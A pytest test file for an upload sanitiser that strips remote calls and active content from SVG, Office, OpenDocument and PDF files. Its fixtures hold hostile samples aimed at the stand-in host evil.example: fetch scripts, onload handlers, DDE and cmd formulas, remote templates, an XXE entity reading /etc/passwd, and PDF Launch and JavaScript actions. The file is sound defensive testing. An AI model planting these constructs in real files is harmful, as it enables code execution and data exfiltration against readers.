"""What is published runs nothing and calls nobody, however it is written: files that do, and what is left of them."""

# ruff: noqa: E501 (a file to a line reads like a table)

from __future__ import annotations

import re

import pytest
from commune.uploads.cleaning import clean_file
from documents import ODF, SPACES, cell, docx, odf, paragraph, pptx, shape, xlsx
from hiding import everything_in
from pdfs import annotation, pdf
from test_hidden import field

AWAY = "https://evil.example/x"
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SEEN = "Cùng chia sẻ"


def svg(inner: str, root: str = "", before: str = "") -> bytes:
    return f"{before}<svg {NS}{root}>{inner}<text>{SEEN}</text></svg>".encode()


# SVG 2, 2.6 and 15; CSS Syntax 4.3 (escapes, letters of any case), CSS Images 4 (image-set)
DRAWINGS = {
    "import": svg(f'<style>@import "{AWAY}";</style>'),
    "import in capitals": svg(f'<style>@IMPORT url({AWAY});</style>'),
    "import with an escape": svg(f'<style>@\\69mport "{AWAY}";</style>'),
    "url with an escape": svg(f"<style>rect{{fill:u\\72l({AWAY})}}</style>"),
    "url in capitals": svg(f'<rect fill="URL({AWAY}#a)"/>'),
    "url across lines": svg(f'<rect style="fill:url(\n{AWAY}#a)"/>'),
    "url behind a comment": svg(f'<rect style="fill:/**/url(/**/{AWAY})"/>'),
    "url without its end": svg(f'<rect style="fill:url({AWAY}"/>'),
    "image-set": svg(f'<style>svg{{background-image:image-set("{AWAY}" 1x)}}</style>'),
    "src of a font": svg(f"<style>@font-face{{font-family:q;src:URL({AWAY})}}</style>"),
    "cursor": svg(f'<rect cursor="url({AWAY}),auto"/>'),
    "filter": svg(f'<rect filter="url({AWAY}#f)" mask="Url({AWAY}#f)" clip-path="url({AWAY}#c)"/>'),
    "image": svg(f'<image href="{AWAY}"/><image xlink:href="//evil.example/x"/>'),
    "use": svg(f'<use href="{AWAY}#x"/><use xlink:href="data:image/svg+xml,{AWAY}#x"/>'),
    "feImage": svg(f'<filter id="f"><feImage href="{AWAY}"/></filter><rect filter="url(#f)"/>'),
    "set": svg(f'<image><set attributeName="href" to="{AWAY}"/></image>'),
    "animate": svg(f'<a href="#"><animate attributeName="href" values="{AWAY};javascript:1"/></a>'),
    "script": svg(f"<script>fetch('{AWAY}')</script><script href='{AWAY}'/>"),
    "handler": svg("", f" onload=\"fetch('{AWAY}')\""),
    "foreign": svg(f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}"/></foreignObject>'),
    "link that runs": svg("<a href='java&#10;script:evil.example'><text>x</text></a>"),
    "style sheet of the file": svg("", before=f'<?xml-stylesheet href="{AWAY}"?>'),
    "base": svg('<rect fill="url(#a)"/>', f' xml:base="{AWAY}"'),
    "discard": svg(f'<discard/><handler>{AWAY}</handler><listener handler="{AWAY}"/>'),
    "named by another space": svg(f'<x:script xmlns:x="http://www.w3.org/2000/svg">fetch("{AWAY}")</x:script>'),
}  # fmt: skip


@pytest.mark.parametrize("way", DRAWINGS)
def test_a_drawing_calls_nobody(way):
    assert b"evil.example" in DRAWINGS[way]
    made = clean_file("a.svg", DRAWINGS[way])
    assert b"evil.example" not in made and SEEN.encode() in made


@pytest.mark.parametrize(
    "way", ["<!ENTITY a 'x'>", "<!ENTITY % b SYSTEM 'https://evil.example'>", "<!ENTITY c SYSTEM 'file:///etc/passwd'>"]
)
def test_a_drawing_with_entities_is_refused(way):
    with pytest.raises(ValueError, match="Hãy xuất lại"):
        clean_file("a.svg", svg("&a;&c;", before=f"<!DOCTYPE svg [{way}]>"))


def test_a_drawing_keeps_its_looks():
    drawn = svg(
        "<style>/* a */ .a{fill:url(#g);stroke:rgb(1,2,3)} @font-face{font-family:q;src:url(data:font/woff2;base64,AAAA)}</style>"
        '<defs><linearGradient id="g"/></defs><path class="a" d="M0 0" transform="rotate(3)" style="opacity:.5"/>'
    )
    made = clean_file("a.svg", drawn).decode()
    for kept in (".a{fill:url(#g);stroke:rgb(1,2,3)}", "data:font/woff2", 'id="g"', "rotate(3)", "opacity:.5"):
        assert kept in made


# ECMA-376: relationships (part 2, 9.3), fields (part 1, 17.16), templates, controls; Microsoft's own additions
OUTSIDE = {
    "a link": ("hyperlink", "file:///evil.example/x"),
    "a share": ("hyperlink", "\\\\evil.example\\x"),
    "a script": ("hyperlink", "javascript:evil.example"),
    "a template": ("attachedTemplate", AWAY),
    "a frame": ("frame", AWAY),
    "a sub-document": ("subDocument", AWAY),
    "an object": ("oleObject", AWAY),
    "a film": ("video", AWAY),
    "data for letters": ("mailMergeSource", AWAY),
}
WORD_CALLS = {
    **{
        way: docx(f'{paragraph(SEEN)}<w:p><w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',
                  links={"word/document.xml": [relation]})
        for way, relation in OUTSIDE.items()
    },
    "DDE": docx(paragraph(SEEN) + field('DDEAUTO c:\\\\evil.example "x"')),
    "DDE in pieces": docx(
        paragraph(SEEN) + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r>'
        '<w:instrText>E evil.example</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "INCLUDEPICTURE": docx(paragraph(SEEN) + f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"{AWAY}\" \\d'/></w:p>"),
    "INCLUDETEXT": docx(paragraph(SEEN) + field(f'INCLUDETEXT "{AWAY}"')),
    "HYPERLINK to a share": docx(paragraph(SEEN) + field('HYPERLINK "file://evil.example/x"')),
    "a ribbon": docx(paragraph(SEEN), {"customUI/customUI.xml": f"<x>{AWAY}</x>"}, {"": [("ui/extensibility", "customUI/customUI.xml")]}),
    "a task pane": docx(paragraph(SEEN), {"word/w/t.xml": f"<x>{AWAY}</x>"}, {"": [("webextensiontaskpanes", "word/w/t.xml")]}),
    "a macro": docx(paragraph(SEEN), {"word/vbaProject.bin": AWAY}, {"word/document.xml": [("vbaProject", "vbaProject.bin")]}),
    "VML": docx(f'{paragraph(SEEN)}<w:p><w:r><w:pict><v:shape o:href="{AWAY}"><v:fill src="{AWAY}"/></v:shape></w:pict></w:r></w:p>'),
    "a formula.xlsx": xlsx(cell(SEEN) + f'<c r="A2"><f>WEBSERVICE("{AWAY}")</f><v>1</v></c>'),
    "a DDE formula.xlsx": xlsx(cell(SEEN) + '<c r="A2"><f>cmd|\'/c evil.example\'!A0</f><v>1</v></c>'),
    "a macro button.pptx": pptx(shape(SEEN, more='<a:hlinkClick action="ppaction://program?evil.example" r:id=""/>')),
    "a link.odt": odf(f'<text:p>{SEEN}<text:a xlink:href="file://evil.example/x">x</text:a></text:p>'),
    "a section.odt": odf(f'<text:p>{SEEN}</text:p><text:section><text:section-source xlink:href="{AWAY}"/></text:section>'),
    "a script.odt": odf(f'<office:scripts><office:script>{AWAY}</office:script></office:scripts><text:p>{SEEN}</text:p>'),
    "a listener.odt": odf(
        f'<text:p>{SEEN}<draw:frame><office:event-listeners><script:event-listener xlink:href="{AWAY}"/>'
        "</office:event-listeners></draw:frame></text:p>"
    ),
    "a frame.odt": odf(f'<text:p>{SEEN}<draw:frame><draw:floating-frame xlink:href="{AWAY}"/></draw:frame></text:p>'),
    "DDE.ods": odf(
        f'<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;evil.example&quot;)"><text:p>{SEEN}'
        "</text:p></table:table-cell></table:table-row></table:table>", kind="spreadsheet"
    ),
    "a linked sheet.ods": odf(
        f'<table:table><table:table-source xlink:href="{AWAY}"/><table:table-row><table:table-cell><text:p>{SEEN}</text:p>'
        "</table:table-cell></table:table-row></table:table>", kind="spreadsheet"
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", WORD_CALLS)
def test_a_document_calls_nobody(way):
    given = WORD_CALLS[way]
    assert any(b"evil.example" in piece for piece in everything_in(given))
    made = everything_in(clean_file(f"a.{way.rpartition('.')[2] if '.' in way else 'docx'}", given))
    assert not any(b"evil.example" in piece for piece in made) and any(SEEN.encode() in piece for piece in made)


LINKED_PICTURE = '<w:p><w:r><w:drawing><pic:blipFill><a:blip r:link="rId1"/></pic:blipFill></w:drawing></w:r></w:p>'
REFUSED = {
    "a linked picture.docx": docx(LINKED_PICTURE, links={"word/document.xml": [("image", AWAY)]}),
    "a linked picture.odt": odf(f'<text:p><draw:frame><draw:image xlink:href="{AWAY}"/></draw:frame></text:p>'),
    "a chunk.docx": docx(
        '<w:altChunk r:id="rId1"/>', {"word/a.htm": "x"}, {"word/document.xml": [("aFChunk", "a.htm")]}
    ),
    "another workbook.xlsx": xlsx(
        cell("x"), parts={"xl/e.xml": "<x/>"}, links={"xl/workbook.xml": [("externalLink", "e.xml")]}
    ),
    "a control.xlsx": xlsx(cell("x"), after='<controls><control shapeId="1"/></controls>'),
    "an object.pptx": pptx('<p:graphicFrame><p:oleObj r:id="rId9"/></p:graphicFrame>'),
}
REFUSED["a document type.docx"] = docx("", {"word/document.xml": f"<!DOCTYPE a><w:document {SPACES}/>"})
REFUSED["a document type.odt"] = odf("", parts={"content.xml": f"<!DOCTYPE a><office:document-content {ODF}/>"})


@pytest.mark.parametrize("way", REFUSED)
def test_what_cannot_be_cut_off_is_refused_with_a_cure(way):
    with pytest.raises(ValueError, match=r"[Hh]ãy"):
        clean_file(f"a.{way.rpartition('.')[2]}", REFUSED[way])


# ISO 32000-2, 12.6: actions, however they hang on one another
GO = "/A<</S/URI/URI(https://a.vn)/Next[<</S/Launch/F(evil.example)>>[<</S/JavaScript/JS(evil.example)>>]]>>"
PDFS = {
    "when opened": pdf("", root="/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>"),
    "afterwards": pdf(annotation("/Link", GO)),
    "in another file": pdf(annotation("/Link", "/A<</S/GoToE/F(evil.example)/D[0/Fit]>>")),
    "a script as an address": pdf(annotation("/Link", "/A<</S/URI/URI(javascript:evil.example)>>")),
    "a page behind": pdf(annotation("/Link", "/Dest[3 0 R/Fit]/PA<</S/URI/URI(https://evil.example)>>")),
    "film": pdf(annotation("/RichMedia", "/RichMediaContent<</A(evil.example)>>")),
    "sound": pdf(annotation("/Screen", "/A<</S/Rendition/JS(evil.example)>>")),
    "when seen": pdf(annotation("/Link", "/Dest[3 0 R/Fit]/AA<</PV<</S/URI/URI(https://evil.example)>>>>")),
    "a form": pdf("7 0 R", root="/AcroForm<</Fields[7 0 R]/XFA(evil.example)>>", more="7 0 obj<</Type/Annot/Subtype/Widget"
                  "/Rect[0 0 9 9]/FT/Btn/T(a)/A<</S/SubmitForm/F(https://evil.example)>>/AA<</K<</S/JavaScript/JS(evil.example)>>>>>>endobj "),
    "names": pdf("", root="/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(evil.example)>>]>>/URLS<</Names[(evil.example)1 0 R]>>>>"),
    "a bookmark": pdf("", root="/Outlines 7 0 R", more="7 0 obj<</First 8 0 R/Last 8 0 R>>endobj 8 0 obj<</Title(Cung chia)"
                      "/A<</S/Launch/F(evil.example)>>>>endobj "),
    "a stream from outside": pdf("", page="/Resources<</XObject<</A 7 0 R>>>>", more="7 0 obj<</Type/XObject/Subtype/Form/BBox"
                                 "[0 0 9 9]/F(evil.example)/FFilter/FlateDecode/Ref<</F(evil.example)>>/Length 1>>stream\nq\nendstream endobj "),
    "a base": pdf("", root="/URI<</Base(https://evil.example)>>"),
    "a tag": pdf("", root="/StructTreeRoot<</K<</Type/StructElem/S/P/P 1 0 R/K 0/T(evil.example)/AF<</F(evil.example)>>>>>>"),
}  # fmt: skip


@pytest.mark.parametrize("way", PDFS)
def test_a_pdf_calls_nobody(way):
    assert any(b"evil.example" in piece for piece in everything_in(PDFS[way]))
    made = clean_file("a.pdf", PDFS[way])
    assert not any(b"evil.example" in piece for piece in everything_in(made))
    assert not re.search(rb"/(?:JavaScript|Launch|GoToE|SubmitForm|RichMedia|Rendition|Next|PA)\b", made)


def test_links_that_readers_follow_stay():
    for target in ("https://a.vn", "http://a.vn", "mailto:a@a.vn", "tel:111"):
        assert target.encode() in clean_file("a.pdf", pdf(annotation("/Link", f"/A<</S/URI/URI({target})>>")))
    within = clean_file("a.pdf", pdf(annotation("/Link", "/A<</S/GoTo/D[3 0 R/Fit]>>")))
    assert b"/GoTo" in within
